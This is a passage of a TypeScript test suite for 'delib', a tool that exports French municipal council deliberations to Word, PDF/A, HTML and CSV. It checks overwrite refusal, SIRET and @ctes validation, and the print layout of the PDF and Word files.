    copyFileSync(RICH.file, join(src, basename(RICH.file)));
    writeFileSync(join(src, 'saint-vit.delib'), ACT);
    const out = join(dir, 'out');
    const first = await delib(['export', src, '--to', 'docx,pdf,html,csv', '-o', out, '--force']);
    assert.equal(first.status, 0, first.stderr);
    const names = readdirSync(out).sort();
    for (const base of [basename(RICH.file, '.delib'), 'saint-vit']) for (const ext of ['docx', 'pdf', 'html']) assert.ok(names.includes(`${base}.${ext}`), `${base}.${ext}`);
    assert.ok(names.includes('deliberations.csv'));
    assert.match(first.stderr, /COLL_SIRET/, 'the missing fields are named');
    assert.equal(readFileSync(join(out, 'saint-vit.pdf')).subarray(0, 5).toString(), '%PDF-');
    const before = statSync(join(out, 'saint-vit.pdf')).mtimeMs;
    // Again: each file that exists is named, and nothing at all is written (not even the html that does not exist).
    rmSync(join(out, 'saint-vit.html'));
    const again = await delib(['export', join(src, 'saint-vit.delib'), '--to', 'pdf,html,docx', '-o', out]);
    assert.equal(again.status, 2);
    const refused = again.stderr.trimEnd().split('\n');
    assert.equal(refused.length, 2, again.stderr);
    assert.match(refused[0], /saint-vit\.pdf existe déjà : rien n’est écrit ; ajoutez --overwrite/);
    assert.match(refused[1], /saint-vit\.docx existe déjà/);
    assert.equal(again.stdout, '');
    assert.deepEqual(readdirSync(out).sort(), names.filter((n) => n !== 'saint-vit.html'));
    assert.equal(statSync(join(out, 'saint-vit.pdf')).mtimeMs, before);
    const replaced = await delib(['export', join(src, 'saint-vit.delib'), '--to', 'pdf', '-o', out, '--overwrite']);
    assert.equal(replaced.status, 0);
    assert.ok(statSync(join(out, 'saint-vit.pdf')).mtimeMs >= before);
    assert.ok(readdirSync(out).every((f) => !f.endsWith('.tmp') && !f.includes('(2)')));
  });

  it('checks the SIRET (its check digit) and the @ctes code before writing, and takes the SIRET from the roster of the act', async () => {
    const src = join(dir, 'saint-vit.delib');
    writeFileSync(src, ACT);
    const out = join(dir, 'out');
    for (const [args, message] of [
      [['--siret', '123'], /^delib: --siret 123 : 14 chiffres attendus$/],
      [['--siret', '21250537400017'], /^delib: --siret 21250537400017 : la clé de contrôle est fausse/],
      [['--matiere', '99'], /^delib: --matiere 99 : un code de la nomenclature @ctes est attendu/],
      [['--matiere', '7.11'], /^delib: --matiere 7.11 : un code de la nomenclature @ctes est attendu/],
      [['--prefecture', 'DOUBS'], /^delib: --prefecture DOUBS : PREFNNN \(PREF025\), SPREFNNNM ou SGARNNN attendu$/],
      [['--url', 'saint-vit.fr/{DELIB_ID}'], /^delib: --url saint-vit.fr\/\{DELIB_ID\} : une adresse http\(s\) attendue/],
    ] as const) {
      const run = await delib(['export', src, '--to', 'csv', '-o', out, ...args]);
      assert.equal(run.status, 2);
      assert.match(run.stderr.trim(), message);
      assert.ok(!existsSync(out), 'nothing written');
    }
    // The roster of Saint-Vit's council, with its SIRET (spaces as it is often written): the CSV takes it.
    const roster = join(dir, 'conseil.yaml');
    const members = ['M. Pascal ROUTHIER', 'Mme Anne DURAND', 'M. Paul MARTIN', 'Mme Julie PETIT', 'M. Marc BERNARD'].map((p) => {
      const [civilite, prenom, nom] = p.split(' ');
      return `  - { civilite: ${civilite}, prenom: ${prenom}, nom: ${nom} }`;
    });
    writeFileSync(roster, ['assemblee: Conseil municipal de Saint-Vit', 'type: conseil municipal', 'commune: Saint-Vit', 'siret: "212 505 374 00018"', 'prefecture: PREF025', 'url_actes: "https://www.saint-vit.fr/actes/{DELIB_ID}.pdf"', 'membres:', ...members, ''].join('\n'));
    const run = await delib(['export', src, '--to', 'csv', '-o', out, '--roster', roster, '--force']);
    assert.equal(run.status, 0, run.stderr);
    const [header, row] = readFileSync(join(out, 'deliberations.csv'), 'utf8').trim().split('\r\n');
    const cell = (f: string) => row.split(',')[header.split(',').indexOf(f)];
    assert.deepEqual([cell('COLL_SIRET'), cell('PREF_ID'), cell('DELIB_URL')], ['21250537400018', 'PREF025', 'https://www.saint-vit.fr/actes/2025-031.pdf']);
    assert.doesNotMatch(run.stderr, /COLL_SIRET/, 'not named as missing any more');
  });

  it('refuses two acts that would give the same file in one folder, before writing anything', async () => {
    for (const year of ['2024', '2025']) {
      execFileSync('mkdir', ['-p', join(dir, year)]);
      writeFileSync(join(dir, year, '001.delib'), ACT);
    }
    const out = join(dir, 'out');
    const run = await delib(['export', join(dir, '2024'), join(dir, '2025'), '--to', 'html', '-o', out, '--force']);
    assert.equal(run.status, 2);
    assert.match(run.stderr, /001\.html : plusieurs actes portent ce nom ; rien n’est écrit/);
    assert.ok(!existsSync(out) || readdirSync(out).length === 0);
  });

  it('writes with « refuse » only where no file is, and never replaces one created meanwhile', () => {
    const target = join(dir, 'acte.pdf');
    assert.equal(writeAtomic(target, 'one', 'refuse'), target);
    assert.throws(() => writeAtomic(target, 'two', 'refuse'), (e: NodeJS.ErrnoException) => e.code === 'EEXIST');
    symlinkSync(join(dir, 'nowhere.pdf'), join(dir, 'lien.pdf'));
    assert.throws(() => writeAtomic(join(dir, 'lien.pdf'), 'three', 'refuse'), (e: NodeJS.ErrnoException) => e.code === 'EEXIST');
    assert.equal(readFileSync(target, 'utf8'), 'one');
    assert.ok(!existsSync(join(dir, 'nowhere.pdf')));
    assert.deepEqual(readdirSync(dir).sort(), ['acte.pdf', 'lien.pdf']);
  });

  it('reports bad usage with status 2', async () => {
    assert.equal((await delib(['export', join(dir, 'x.delib')])).status, 2);
    assert.equal((await delib(['export', join(dir, 'x.delib'), '--to', 'odt'])).status, 2);
    assert.equal((await delib(['export', join(dir, 'absent.delib'), '--to', 'pdf'])).status, 2);
  });
});

describe('export: the printed act as a reader sees it (poppler, the .docx XML)', function () {
  this.timeout(60_000);
  let dir = '';
  const sample = (name: string) => analyze(readFileSync(repoPath('samples', name), 'utf8'));
  const pdfOf = async (analysis: Analysis, name: string, draft = false) => {
    const file = join(dir, name);
    writeFileSync(file, await renderDocument(analysis, 'pdf', { draft }));
    return file;
  };
  const pages = (file: string) => Number(/Pages:\s+(\d+)/.exec(execFileSync('pdfinfo', [file], { encoding: 'utf8' }))![1]);
  const pageText = (file: string, p: number) => execFileSync('pdftotext', ['-f', String(p), '-l', String(p), file, '-'], { encoding: 'utf8' });
  before(function () {
    if (!has('pdftotext')) this.skip();
    dir = mkdtempSync(join(tmpdir(), 'delib-print-'));
  });
  after(() => dir && rmSync(dir, { recursive: true, force: true }));

  it('is a PDF/A-2b, tagged: headings, paragraphs, the decisions as a list, the tables; page numbers as artifacts', async () => {
    const file = await pdfOf(sample('extrait-municipal.delib'), 'municipal.pdf');
    const info = execFileSync('pdfinfo', [file], { encoding: 'utf8' });
    assert.match(info, /Tagged:\s+yes/);
    assert.match(info, /PDF version:\s+1\.7/);
    const meta = execFileSync('pdfinfo', ['-meta', file], { encoding: 'utf8' });
    assert.match(meta, /<pdfaid:part>2<\/pdfaid:part>/);
    assert.match(meta, /<pdfaid:conformance>B<\/pdfaid:conformance>/);
    const fonts = execFileSync('pdffonts', [file], { encoding: 'utf8' }).split('\n').slice(2).filter(Boolean);
    assert.ok(fonts.every((f) => /\byes\b.*\byes\b/.test(f)), 'every font embedded');
    const struct = execFileSync('pdfinfo', ['-struct-text', file], { encoding: 'utf8' });
    assert.match(struct, /^\s*H1 \(block\)\n\s*"EXTRAIT DU REGISTRE DES DÉLIBÉRATIONS DU CONSEIL MUNICIPAL"/m);
    assert.match(struct, /^\s*H2 \(block\)\n\s*"Séance du lundi 23 juin 2025"/m);
    assert.match(struct, /^\s*L \(block\)\n\s*LI \(block\)\n\s*Lbl \(block\)\n\s*"–"\n\s*LBody \(block\)\n\s*"FIXE les tarifs/m);
    assert.match(struct, /^\s*Table \(block\)/m);
    assert.match(struct, /"Étaient présents\s+: M\.\s+André SIMOND, Mme\s+Sophie BRANCHE/, 'words apart, as written');
    assert.doesNotMatch(struct, /Page 1 sur/, 'the page numbers are no part of the text');
  });

  it('justifies a paragraph that holds a bold label: its lines but the last end at the right margin', async () => {
    const file = await pdfOf(sample('extrait-municipal.delib'), 'municipal.pdf');
    const words = [...execFileSync('pdftotext', ['-f', '1', '-l', '1', '-bbox', file, '-'], { encoding: 'utf8' }).matchAll(/<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)<\/word>/g)]
      .map((m) => ({ x0: Number(m[1]), y: Math.round(Number(m[2])), x1: Number(m[3]), text: m[4] }));
    const start = words.find((w) => w.text === 'Étaient')!;
    const end = words.find((w) => w.text === 'JANIN')!;
    const lines = [...new Set(words.filter((w) => w.y >= start.y && w.y <= end.y).map((w) => w.y))].sort((a, b) => a - b);
    assert.ok(lines.length >= 3, `${lines.length} lines`);
    const right = lines.slice(0, -1).map((y) => Math.max(...words.filter((w) => w.y === y).map((w) => w.x1)));
    const margin = Math.max(...right);
    for (const r of right) assert.ok(margin - r < 1.5, `line ends at ${r}, margin ${margin}`);
    const last = Math.max(...words.filter((w) => w.y === lines[lines.length - 1]).map((w) => w.x1));
    assert.ok(margin - last > 20, 'the last line is not stretched');
  });

  it('never leaves one line of a paragraph alone at the foot or the head of a page', async () => {
    const filler = (k: number) => `Début${k} ${'le conseil examine le dossier présenté et en débat longuement '.repeat(3)}Fin${k}.`;
    const text = ['Séance du lundi 3 mars 2025', '', ...Array.from({ length: 60 }, (_, k) => [filler(k), '']).flat()].join('\n');
    const file = await pdfOf(analyze(text), 'filler.pdf');
    const n = pages(file);
    assert.ok(n >= 3, `${n} pages`);
    const where = new Map<string, number>();
    for (let p = 1; p <= n; p++) for (const m of pageText(file, p).matchAll(/\b(Début|Fin)(\d+)/g)) where.set(`${m[1]}${m[2]}`, p);
    for (let k = 0; k < 60; k++) assert.equal(where.get(`Début${k}`), where.get(`Fin${k}`), `paragraph ${k}, of three lines, on one page`);
    // A paragraph cut by a page: its marked content (tagged PDF) is closed and opened again, every page well formed.
    assert.equal(spawnSync('pdftotext', [file, '-'], { encoding: 'utf8' }).stderr, '', 'no syntax warning from poppler');
  });

  it('never prints the signature alone on its page, nor « Après en avoir délibéré… : » apart from its decisions', async () => {
    for (const name of ['extrait-municipal.delib', 'extrait-communautaire.delib']) {
      const file = await pdfOf(sample(name), `${name}.pdf`);
      for (let p = 1; p <= pages(file); p++) {
        const lines = pageText(file, p).split('\n').map((l) => l.trim()).filter((l) => l && !/^Page \d+ sur \d+$/.test(l) && !/^Commune de|^Communauté|^CA du|^Grand/.test(l));
        const sig = lines.findIndex((l) => /^Pour extrait conforme/.test(l));
        if (sig >= 0) assert.ok(sig > 0, `${name}: something of the act above the signature on page ${p}`);
        const decided = lines.findIndex((l) => /^Après en avoir délibéré/.test(l));
        if (decided >= 0) assert.ok(lines.slice(decided + 1).some((l) => /^–/.test(l)), `${name}: a decision after « Après en avoir délibéré » on page ${p}`);
      }
    }
  });

  it('prints « PROJET » across every page of an act exported despite its errors, and only then', async () => {
    const analysis = sample('convention-subvention.delib');
    // Diagonal, poppler reads each large letter apart: the letters of the page, left to right.
    const diagonal = (file: string, p: number) => [...execFileSync('pdftotext', ['-f', String(p), '-l', String(p), '-bbox', file, '-'], { encoding: 'utf8' }).matchAll(/<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)">(\p{Lu})<\/word>/gu)]
      .filter((m) => Number(m[3]) - Number(m[2]) > 60)
      .sort((a, b) => Number(a[1]) - Number(b[1]))
      .map((m) => m[4])
      .join('');
    const draft = await pdfOf(analysis, 'projet.pdf', true);
    for (let p = 1; p <= pages(draft); p++) assert.equal(diagonal(draft, p), 'PROJET', `page ${p}`);
    const clean = await pdfOf(analysis, 'propre.pdf');
    for (let p = 1; p <= pages(clean); p++) assert.equal(diagonal(clean, p), '');
    assert.match(renderHtml(buildLayout(analysis.model), { draft: true }), /<div class="watermark" aria-hidden="true">PROJET<\/div>/);
    assert.doesNotMatch(renderHtml(buildLayout(analysis.model)), /class="watermark"/);
    const zip = await JSZip.loadAsync(await renderDocument(analysis, 'docx', { draft: true }));
    const headers = await Promise.all(Object.keys(zip.files).filter((f) => /^word\/header\d*\.xml$/.test(f)).map((f) => zip.file(f)!.async('string')));
    assert.ok(headers.some((h) => /<w:framePr[^>]*w:hAnchor="page"/.test(h) && />PROJET</.test(h)), 'a framed « PROJET » in the page header');
  });

  it('writes Word files with « – » bullets, French style names, the French language and widow control', async () => {
    const zip = await JSZip.loadAsync(await renderDocument(sample('extrait-municipal.delib'), 'docx'));
    const get = (f: string) => zip.file(f)!.async('string');
    assert.match(await get('word/numbering.xml'), /<w:numFmt w:val="bullet"\/><w:lvlText w:val="–"\/>/);
    const styles = await get('word/styles.xml');
    assert.match(styles, /<w:lang w:val="fr-FR"\/>/);
    for (const name of ['Présences', 'En-tête de la collectivité', 'Mentions de transmission', 'Texte de tableau']) assert.match(styles, new RegExp(`<w:name w:val="${name}"/>`));
    const document = await get('word/document.xml');
    assert.ok((document.match(/<w:widowControl\/>/g) ?? []).length > 10);
    assert.match(document, /<w:numPr><w:ilvl w:val="0"\/><w:numId w:val="\d+"\/><\/w:numPr>/);
    const english = await JSZip.loadAsync(await renderDocument(sample('extrait-municipal.delib'), 'docx', { locale: 'en' }));
    assert.match(await english.file('word/styles.xml')!.async('string'), /<w:lang w:val="en-GB"\/>/);
  });
});
